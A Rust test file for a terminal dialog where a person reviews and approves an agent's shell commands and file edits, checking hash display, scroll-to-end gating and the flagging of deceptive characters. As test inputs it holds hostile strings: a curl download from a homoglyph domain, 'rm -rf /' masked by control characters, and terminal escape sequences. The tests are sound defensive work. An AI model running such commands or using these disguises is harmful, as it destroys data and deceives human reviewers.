//! The review of a call: what it shows, its guard, what it sends.

mod before;
mod seen;
mod typed;

use super::*;
use crate::run::checkpoint::FileState;
use crate::run::control::{Author, Control};
use crate::run::{Body, CallStatus, Hash};
use crate::ui::app::sample;
use crate::ui::feed::{Snapshot, Text};
use crate::ui::words::Lang;
use crossterm::event::{KeyCode, KeyModifiers};
use std::sync::Arc;
use std::time::Duration;

fn model(lang: Lang) -> Model {
    sample::model(lang, (80, 24))
}

fn waits(model: &Model, tool: &str) -> Waiting {
    model.waiting_here().find(|waiting| waiting.call.tool == tool).unwrap().clone()
}

fn shell(model: &Model, args: &str) -> Waiting {
    let mut waiting = waits(model, "shell");
    let body = Body::Inline(args.to_owned());
    waiting.call.args = body.clone();
    waiting.args = Text::of(&body);
    waiting
}

fn hit(action: Action) -> Hit {
    Hit { action, nth: 0 }
}

/// Draws it as high as this, and tells it so.
fn show(dialog: &mut dyn Dialog, model: &Model, height: u16) -> (Shown, Vec<String>) {
    let (shown, rows) = sample::draw_dialog_in(dialog, model, 72, height);
    dialog.drawn(shown, model.clock.mono);
    (shown, rows.into_iter().map(|row| row.trim_end().to_owned()).collect())
}

/// Opens it, and tells it that the call did not run before.
fn open(dialog: &mut dyn Dialog, model: &mut Model) -> Vec<Cmd> {
    let commands = dialog.open(model);
    for command in &commands {
        if let Cmd::Before(ticket, ..) = command {
            dialog.told(&Msg::Before(*ticket, Ok(None)), model);
        }
    }
    commands
}

fn later(model: &mut Model, ms: u64) {
    model.clock.mono += Duration::from_millis(ms);
}

fn all(dialog: &mut dyn Dialog, model: &Model) -> Vec<String> {
    let rows = dialog.rows(model, 72);
    show(dialog, model, rows).1
}

fn decision(step: Step) -> Option<(Decision, crate::run::Hash, u32)> {
    match step {
        Step::Post { control: Control::Decide { args_hash, attempt, decision, .. }, .. } => {
            Some((decision, args_hash, attempt))
        }
        _ => None,
    }
}

#[test]
fn a_command_is_shown_whole_and_approved_with_the_hash_that_was_shown() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "shell");
    let mut dialog = Review::new(&model, &waiting);
    assert!(dialog.guards());
    open(dialog.as_mut(), &mut model);
    assert_eq!(dialog.title(&model).0, "Run this command?");
    let rows = all(dialog.as_mut(), &model);
    let hash = waiting.call.args_hash.to_string();
    let asked = format!("hash {} {}", hash.get(..4).unwrap(), hash.get(4..8).unwrap());
    assert_eq!(rows[0], "cargo bench --bench export", "{rows:#?}");
    assert!(rows.iter().any(|row| row == "in      /home/ann/src/ledger · time-out 120 s"), "{rows:#?}");
    assert!(rows.iter().any(|row| row.contains("mode ask")), "{rows:#?}");
    assert!(rows.join(" ").contains(&asked), "{rows:#?}");
    assert!(rows.last().unwrap().starts_with("y run  n deny…  e edit  Tab next"), "{rows:#?}");
    let whole = rows.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(whole.contains("seen to the end"), "said in the very frame: {rows:#?}");

    let step = dialog.act(hit(Action::ApproveOnce), &mut model);
    assert!(matches!(step, Step::Say(_)), "too soon: {step:?}");
    later(&mut model, 299);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
    later(&mut model, 299);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)), "held down");
    later(&mut model, 300);
    let (decision, hash, attempt) = decision(dialog.act(hit(Action::ApproveOnce), &mut model)).unwrap();
    assert_eq!((decision, hash, attempt), (Decision::Approve, waiting.call.args_hash, waiting.call.attempt));
}

#[test]
fn nothing_is_approved_before_its_first_frame() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "shell");
    let mut dialog = Review::new(&model, &waiting);
    later(&mut model, 10_000);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
}

#[test]
fn a_long_command_is_approved_only_once_its_end_was_on_the_screen() {
    let mut model = model(Lang::En);
    let command = (1..=40).map(|n| format!("echo {n}")).collect::<Vec<_>>().join("\\n");
    let waiting = shell(&model, &format!("{{\"command\":\"{command}\"}}"));
    let mut dialog = Review::new(&model, &waiting);
    let (shown, rows) = show(dialog.as_mut(), &model, 16);
    assert!(!shown.end && shown.most > 0);
    assert!(
        rows.iter().any(|row| {
            row.contains("> shows the end; y works once you have seen it · seen 11 of 40 lines")
        }),
        "{rows:#?}"
    );
    later(&mut model, 1_000);
    dialog.act(hit(Action::PageOn), &mut model);
    let (shown, rows) = show(dialog.as_mut(), &model, 16);
    assert!(!shown.end && rows.iter().any(|row| row.contains("seen 21 of 40 lines")), "{rows:#?}");
    let Step::Say(why) = dialog.act(hit(Action::ApproveOnce), &mut model) else { panic!() };
    assert_eq!(why, "> shows the end; y works once you have seen it · seen 21 of 40 lines");
    // The end is enough; how much was never on the screen is said, in the very frame.
    dialog.act(hit(Action::Bottom), &mut model);
    let (shown, rows) = show(dialog.as_mut(), &model, 16);
    assert!(shown.end && rows[0] == "echo 30" && rows.last().unwrap().contains("30–40 / 40"), "{rows:#?}");
    let said = rows.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains("end seen · 32 of 40 lines were on the screen"), "{rows:#?}");
    assert!(decision(dialog.act(hit(Action::ApproveOnce), &mut model)).is_some());
    // What lay between counts once it was shown too.
    for _ in 0..2 {
        dialog.act(hit(Action::PageUp), &mut model);
        show(dialog.as_mut(), &model, 16);
    }
    let rows = show(dialog.as_mut(), &model, 16).1.join(" ");
    assert!(rows.contains("seen to the end") && !rows.contains("were on the screen"), "{rows}");
}

#[test]
fn what_deceives_is_listed_and_needs_a_typed_word() {
    let mut model = model(Lang::En);
    let waiting = shell(
        &model,
        r#"{"command":"curl -sSf https://get.exаmple.com/p.sh\u200b -o /tmp/p.sh","timeout_s":9}"#,
    );
    let mut dialog = Review::new(&model, &waiting);
    let rows = all(dialog.as_mut(), &model);
    assert_eq!(rows[0], "! 2 characters are not what they look like; shown as codes, reversed.", "{rows:#?}");
    assert_eq!(rows[1], r"curl -sSf https://get.ex\u{430}mple.com/p.sh\u{200b} -o /tmp/p.sh");
    assert_eq!(rows[2], r"  \u{430} Cyrillic, looks like a · \u{200b} zero-width space");
    assert!(rows.iter().any(|row| row.contains("flagged text always asks")), "{rows:#?}");
    assert!(rows.iter().any(|row| row.ends_with("time-out 9 s")), "{rows:#?}");
    assert!(rows.last().unwrap().starts_with("y run (type yes)"), "{rows:#?}");
    later(&mut model, 400);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Stay));
    assert_eq!(dialog.live(), live::TEXT);
    assert!(matches!(dialog.act(hit(Action::TextSubmit), &mut model), Step::Say(_)));
    let rows = all(dialog.as_mut(), &model);
    assert!(rows.iter().any(|row| row.starts_with("That is not yes. Type yes to go on")), "{rows:#?}");
    for c in "yes".chars() {
        dialog.key(&KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE), &mut model);
    }
    let rows = all(dialog.as_mut(), &model);
    assert!(rows.iter().any(|row| row == "Type yes to go on ▏yes"), "{rows:#?}");
    assert!(decision(dialog.act(hit(Action::TextSubmit), &mut model)).is_some());
}

#[test]
fn nothing_of_a_command_hides_behind_control_characters() {
    let model = model(Lang::En);
    let waiting = shell(&model, r#"{"command":"echo 'rm -rf /;\r harmless'\u001b[2K\u001b[1A\u0008\r\nls"}"#);
    let mut dialog = Review::new(&model, &waiting);
    let rows = all(dialog.as_mut(), &model);
    // A line end as other systems write it deceives nobody, and is shown and counted all the same.
    assert_eq!(rows[0], "! 5 characters are not what they look like; shown as codes, reversed.", "{rows:#?}");
    assert_eq!(rows[1], r"echo 'rm -rf /;\u{d} harmless'\u{1b}[2K\u{1b}[1A\u{8}\u{d}");
    assert_eq!(rows[2], "ls");
    let legend = rows.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
    for said in
        [r"\u{d} control character", r"\u{1b} control sequence for the terminal", r"\u{8} control character"]
    {
        assert_eq!(legend.matches(said).count(), 1, "{said}: {rows:#?}");
    }
}

#[test]
fn count_and_legend_name_every_code_that_is_shown() {
    let model = model(Lang::En);
    for (command, count, legend) in [
        (
            r"a\u001b]0;t\u0007\u202eb",
            3,
            vec![r"\u{1b} control seq", r"\u{7} control char", r"\u{202e} changes"],
        ),
        (
            "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200b}",
            3,
            vec![r"\u{200d} part of an emoji", r"\u{200b} zero"],
        ),
    ] {
        let waiting = shell(&model, &format!(r#"{{"command":"{command}"}}"#));
        let rows = all(Review::new(&model, &waiting).as_mut(), &model);
        assert!(rows[0].starts_with(&format!("! {count} characters")), "{rows:#?}");
        assert_eq!(rows[1].matches(r"\u{").count(), count, "{rows:#?}");
        let said = rows.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
        legend.iter().for_each(|one| assert_eq!(said.matches(one).count(), 1, "{one}: {rows:#?}"));
    }
}

#[test]
fn a_word_to_be_typed_comes_after_the_text_was_seen() {
    let mut model = model(Lang::En);
    let command = (1..=40).map(|n| format!("rm -rf {n}")).collect::<Vec<_>>().join("\\n");
    let waiting = shell(&model, &format!("{{\"command\":\"{command}\"}}"));
    let mut dialog = Review::new(&model, &waiting);
    let rows = show(dialog.as_mut(), &model, 16).1.join(" ");
    assert!(rows.contains("> shows the end; then y asks for the word yes"), "{rows}");
    later(&mut model, 1_000);
    let Step::Say(why) = dialog.act(hit(Action::ApproveOnce), &mut model) else { panic!() };
    assert!(why.starts_with("> shows the end; then y asks for the word yes"), "{why}");
    assert_eq!(dialog.live(), live::ASK);
    dialog.act(hit(Action::Bottom), &mut model);
    show(dialog.as_mut(), &model, 16);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Stay));
    assert_eq!(dialog.live(), live::TEXT);
}

#[test]
fn a_small_window_keeps_the_keys_and_drops_their_words() {
    for lang in [Lang::En, Lang::Zh] {
        let model = model(lang);
        let mut dialog = Review::new(&model, &shell(&model, r#"{"command":"rm -rf target"}"#));
        open(dialog.as_mut(), &mut sample::model(lang, (40, 12)));
        for width in [38, 30, 24] {
            let rows = sample::draw_dialog_in(dialog.as_ref(), &model, width, 8).1;
            let keys = rows.last().unwrap();
            for key in ["y", "n", "e", "Esc"] {
                assert!(keys.split_whitespace().any(|word| word == key), "{width}: {keys}");
            }
        }
    }
}

#[test]
fn at_80_columns_every_key_has_its_words() {
    for (lang, keys) in [
        (Lang::En, ["y run", "n deny…", "e edit", "Tab next", "/ 1,00", "Esc leave waiting"]),
        (Lang::Zh, ["y 运行", "n 拒绝…", "e 改参数", "Tab 下一个", "/ 1,00", "Esc 让它等着"]),
    ] {
        let mut model = model(lang);
        let lines: Vec<String> = (1..=1_000).map(|n| format!("rm -rf target/{n}")).collect();
        let args = serde_json::json!({"command": lines.join("\n")}).to_string();
        let mut dialog = Review::new(&model, &shell(&model, &args));
        open(dialog.as_mut(), &mut model);
        for width in [76, 72] {
            let rows = sample::draw_dialog_in(dialog.as_ref(), &model, width, 20).1;
            let last = rows.last().unwrap();
            assert!(keys.iter().all(|key| last.contains(key)), "{last}");
        }
        // Where there is room, nothing is said shorter.
        let rows = sample::draw_dialog_in(dialog.as_ref(), &model, 110, 20).1;
        let words = &model.words().review;
        let whole = [words.type_yes, words.default];
        assert!(whole.iter().all(|word| rows.last().unwrap().contains(word)), "{rows:#?}");
    }
}

#[test]
fn an_empty_command_is_named() {
    let model = model(Lang::En);
    let waiting = shell(&model, r#"{"command":" ","env":{"A":"b"}}"#);
    let rows = all(Review::new(&model, &waiting).as_mut(), &model).join("\n");
    assert!(rows.contains("The command is empty.") && rows.contains("\"A\": \"b\""), "{rows}");
}

#[test]
fn a_dangerous_command_needs_it_too() {
    let mut model = model(Lang::Zh);
    let waiting = shell(&model, r#"{"command":"rm -rf target"}"#);
    let mut dialog = Review::new(&model, &waiting);
    let rows = all(dialog.as_mut(), &model);
    assert!(rows.iter().any(|row| row.contains("类别    副作用，危险：会删除整个文件夹")), "{rows:#?}");
    later(&mut model, 400);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Stay));
    assert_eq!(dialog.live(), live::TEXT);
}

#[test]
fn in_the_smallest_window_what_is_dangerous_is_said_once_and_stays_in_view() {
    for (lang, danger) in [(Lang::En, "itdeletesawholefolder"), (Lang::Zh, "会删除整个文件夹")] {
        let mut model = model(lang);
        let mut waiting = shell(&model, r#"{"command":"rm -rf target"}"#);
        waiting.call.why = Some("dangerous: it deletes a whole folder".to_owned());
        let mut dialog = Review::new(&model, &waiting);
        open(dialog.as_mut(), &mut model);
        for _ in 0..8 {
            let (shown, rows) = sample::draw_dialog_in(dialog.as_ref(), &model, 37, 6);
            dialog.drawn(shown, model.clock.mono);
            let said: String = rows.concat().split_whitespace().collect();
            assert_eq!(said.matches(danger).count(), 1, "{rows:#?}");
            dialog.act(hit(Action::LineDown), &mut model);
        }
        // Beside all there is to know it stands in its line.
        let whole = all(dialog.as_mut(), &model).join("\n");
        assert!(whole.contains(model.words().review.class), "{whole}");
    }
}

fn change(diff: &str) -> FileChange {
    FileChange {
        path: "src/export/writer.rs".to_owned(),
        diff: diff.to_owned(),
        added: 18,
        removed: 7,
        before: Some(7_270),
        lines: 212,
        state: None,
        problem: None,
    }
}

const DIFF: &str = "--- a/src/export/writer.rs\n+++ b/src/export/writer.rs\n@@ -41,3 +41,3 @@\n fn write() {\n-    old();\n+    new();\n }\n@@ -90,1 +90,2 @@\n fn end() {}\n+// done\n";

#[test]
fn a_write_shows_its_difference_with_the_numbers_of_the_lines() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "edit_file");
    let mut dialog = Review::new(&model, &waiting);
    let commands = dialog.open(&mut model);
    let [Cmd::Change(ticket, run, call, None)] = commands.as_slice() else { panic!("{commands:?}") };
    assert_eq!((run, call), (&waiting.call.run, &waiting.call.call_id));
    assert!(all(dialog.as_mut(), &model).join(" ").contains("Reading the call"));
    later(&mut model, 1_000);
    assert!(
        matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)),
        "nothing was shown yet"
    );
    dialog.told(&Msg::Change(*ticket, Ok(vec![change(DIFF)])), &mut model);
    assert_eq!(dialog.title(&model).0, "Change this file?");
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)), "not drawn yet");
    let rows = all(dialog.as_mut(), &model);
    let wanted = [
        "src/export/writer.rs   +18 −7   was 212 lines, 7.0 KiB",
        "  41   │ fn write() {",
        "  42 − │-    old();",
        "  42 + │+    new();",
        "  43   │ }",
        "       │⋯",
        "  90   │ fn end() {}",
        "  91 + │+// done",
    ];
    assert_eq!(rows[..wanted.len()], wanted, "{rows:#?}");
    assert!(decision(dialog.act(hit(Action::ApproveOnce), &mut model)).is_some());
}

#[test]
fn what_steers_a_terminal_is_shown_in_lines_that_come_and_in_lines_that_go() {
    let mut model = model(Lang::En);
    let hostile =
        "echo ok \u{1b}[31mhidden-csi \u{1b}[0m\u{1b}[2K\u{8}\u{8}\u{9b}31m\u{1b}]52;c;x\u{7}\u{90}q\u{9c}";
    let codes =
        r"echo ok \u{1b}[31mhidden-csi \u{1b}[0m\u{1b}[2K\u{8}\u{8}\u{9b}31m\u{1b}]52;c;x\u{7}\u{90}q\u{9c}";
    let before = crate::tool::exact_diff("f", Some(hostile.as_bytes()), b"safe\n");
    let after = crate::tool::exact_diff("f", Some(b"safe\n"), format!("{hostile}\r\n").as_bytes());
    for (diff, sign, line) in [(&before, '-', codes.to_owned()), (&after, '+', format!(r"{codes}\u{{d}}"))] {
        // The difference of a rollback and of a comparison is made by the same function.
        let mut flow = super::super::flow::Flow::default();
        super::diff::add(&model, diff, &mut flow);
        let shown = crate::ui::dialog::text::TextDialog::flow("f", "", flow);
        let wide = |dialog: &dyn Dialog| sample::draw_dialog_in(dialog, &model, 140, 30).1.join("\n");
        let rows = wide(shown.as_ref());
        assert!(rows.contains(&format!("{sign}{line}")), "{rows}\n{sign}{line}");

        let waiting = waits(&model, "edit_file");
        let mut dialog = Review::new(&model, &waiting);
        let commands = dialog.open(&mut model);
        let Some(Cmd::Change(ticket, ..)) = commands.first() else { panic!("{commands:?}") };
        dialog.told(&Msg::Change(*ticket, Ok(vec![change(diff)])), &mut model);
        let rows = sample::draw_dialog_in(dialog.as_ref(), &model, 140, 30).1.join("\n");
        assert!(rows.contains(&format!("{sign}{line}")), "{rows}\n{sign}{line}");
    }
}

#[test]
fn a_difference_that_is_not_whole_is_followed_by_the_arguments() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "edit_file");
    for diff in [
        "",
        "@@ -1,1 +1,1 @@\n+a\n[diff cut: 9 of 99 bytes shown]\n",
        "binary or not UTF-8: 1 bytes become 2 bytes\n",
    ] {
        let mut dialog = Review::new(&model, &waiting);
        let commands = dialog.open(&mut model);
        let Some(Cmd::Change(ticket, ..)) = commands.first() else { panic!("{commands:?}") };
        let mut change = change(diff);
        change.problem = Some("the text is not in the file".to_owned());
        dialog.told(&Msg::Change(*ticket, Ok(vec![change])), &mut model);
        let rows = all(dialog.as_mut(), &model).join("\n");
        assert!(rows.contains("these are the arguments") && rows.contains("\"new_string\""), "{rows}");
        assert!(rows.contains("✗ the text is not in the file"), "{rows}");
    }
}

#[test]
fn arguments_that_lie_apart_are_read_first() {
    let mut model = model(Lang::En);
    let mut waiting = waits(&model, "shell");
    waiting.args = Text { shown: String::new(), body: Body::Inline(r#"{"command":"ls"}"#.to_owned()) };
    let mut dialog = Review::new(&model, &waiting);
    let commands = open(dialog.as_mut(), &mut model);
    let Some(Cmd::Text(ticket, _)) = commands.first() else { panic!("{commands:?}") };
    show(dialog.as_mut(), &model, 20);
    later(&mut model, 1_000);
    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
    dialog.told(&Msg::Text(*ticket + 7, Ok("not this one".to_owned())), &mut model);
    dialog.told(&Msg::Text(*ticket, Ok(r#"{"command":"ls -l"}"#.to_owned())), &mut model);
    assert_eq!(show(dialog.as_mut(), &model, 20).1[0], "ls -l");
    assert!(decision(dialog.act(hit(Action::ApproveOnce), &mut model)).is_some());

    let mut dialog = Review::new(&model, &waiting);
    let commands = open(dialog.as_mut(), &mut model);
    let Some(Cmd::Text(ticket, _)) = commands.first() else { panic!("{commands:?}") };
    dialog.told(&Msg::Text(*ticket, Err("it is damaged".to_owned())), &mut model);
    show(dialog.as_mut(), &model, 20);
    later(&mut model, 1_000);
    assert!(
        matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(why) if why.contains("damaged"))
    );
}

fn snapshot(model: &Model, change: impl Fn(&mut Snapshot)) -> Msg {
    let mut shot = model.shot.as_deref().cloned().unwrap();
    change(&mut shot);
    Msg::Shot(Arc::new(shot))
}

#[test]
fn a_decision_made_elsewhere_is_said_and_nothing_is_decided_any_more() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "shell");
    let id = waiting.call.call_id.clone();
    let mut dialog = Review::new(&model, &waiting);
    dialog.told(&snapshot(&model, |_| ()), &mut model);
    assert_eq!(dialog.live(), live::ASK, "it still waits");
    let decided = snapshot(&model, |shot| {
        shot.waiting.retain(|waiting| waiting.call.call_id != id);
        let mut view = shot.run.as_deref().cloned().unwrap();
        for call in view.calls.iter_mut().filter(|call| call.call_id == id) {
            call.status = CallStatus::Denied;
            call.decided_by = Some(Author::Person("cli".to_owned()));
        }
        shot.run = Some(Arc::new(view));
    });
    dialog.told(&decided, &mut model);
    let rows = all(dialog.as_mut(), &model);
    assert_eq!(rows[0], "! Already decided by you (cli): denied", "{rows:#?}");
    assert_eq!(rows.last().unwrap(), "Esc close");
    assert_eq!(dialog.live(), live::SHOW);
    later(&mut model, 1_000);
    for action in [Action::ApproveOnce, Action::Deny, Action::EditArgs] {
        assert!(matches!(dialog.act(hit(action), &mut model), Step::Say(_)));
    }

    for (change, words) in [("hash", "Its arguments have changed"), ("attempt", "waiting")] {
        let mut dialog = Review::new(&model, &waiting);
        let other = snapshot(&model, |shot| {
            for waiting in shot.waiting.iter_mut().filter(|waiting| waiting.call.call_id == id) {
                if change == "hash" {
                    waiting.call.args_hash = crate::run::Hash::of(b"other");
                } else {
                    waiting.call.attempt += 1;
                }
            }
            let mut view = shot.run.as_deref().cloned().unwrap();
            for call in view.calls.iter_mut().filter(|call| call.call_id == id && change == "hash") {
                call.args_hash = crate::run::Hash::of(b"other");
            }
            shot.run = Some(Arc::new(view));
        });
        dialog.told(&other, &mut model);
        let rows = all(dialog.as_mut(), &model);
        assert!(rows[0].contains(words), "{rows:#?}");
    }
}

#[test]
fn other_keys_lead_to_the_other_dialogs() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "shell");
    let titles = [
        (Action::Deny, "Deny shell cargo bench"),
        (Action::EditArgs, "Edit the call · shell"),
        (Action::AskNext, "?"),
    ];
    for (action, title) in titles {
        let mut dialog = Review::new(&model, &waiting);
        let Step::Swap(next) = dialog.act(hit(action), &mut model) else { panic!("{action:?}") };
        assert!(next.title(&model).0.contains(title), "{}", next.title(&model).0);
    }
    assert!(matches!(Review::new(&model, &waiting).act(hit(Action::EffectReuse), &mut model), Step::Say(_)));
}

#[test]
fn edited_arguments_are_reviewed_and_sent_as_such() {
    let mut model = model(Lang::En);
    let waiting = waits(&model, "edit_file");
    let args = serde_json::json!({"path": "a.rs", "old_string": "x", "new_string": "y"});
    let own = serde_json::json!({"path": "a.rs", "old_string": "x", "new_string": "z\u{1b}[0m"});
    let mut dialog = Review::edited(&model, &waiting, args.clone(), Some(&own));
    // What the new arguments would change is asked for, not what the old ones would have.
    let commands = dialog.open(&mut model);
    let [Cmd::Change(ticket, _, _, Some(asked))] = commands.as_slice() else { panic!("{commands:?}") };
    assert_eq!(*asked, args);
    dialog.told(&Msg::Change(*ticket, Ok(vec![change("")])), &mut model);
    let rows = all(dialog.as_mut(), &model).join("\n");
    assert!(rows.contains("\"new_string\": \"y\"") && rows.contains("with your"), "{rows}");
    assert!(rows.contains("You changed new_string:\n− z\\u{1b}[0m\n+ y\nThe call becomes:"), "{rows}");
    assert!(!rows.contains("You changed path"), "{rows}");
    let sent = crate::worker::effect_key("edit_file", &crate::tool::canonical(&args)).to_string();
    assert!(rows.contains(&format!("hash {} {}", sent.get(..4).unwrap(), sent.get(4..8).unwrap())), "{rows}");
    later(&mut model, 400);
    let (decision, hash, _) = decision(dialog.act(hit(Action::ApproveOnce), &mut model)).unwrap();
    assert_eq!((decision, hash), (Decision::ApproveEdited { args }, waiting.call.args_hash));
}

#[test]
fn every_size_is_drawn_and_never_counts_as_seen_where_nothing_fits() {
    for lang in [Lang::En, Lang::Zh] {
        let model = model(lang);
        let waiting = shell(&model, r#"{"command":"echo 你好 \u200b && rm -rf x","cwd":"src"}"#);
        for columns in 0..60 {
            for rows in 0..20 {
                let dialog = Review::new(&model, &waiting);
                let (shown, _) = sample::draw_dialog_in(dialog.as_ref(), &model, columns, rows);
                assert!(!shown.end || rows > 1, "{columns}×{rows}");
            }
        }
    }
}
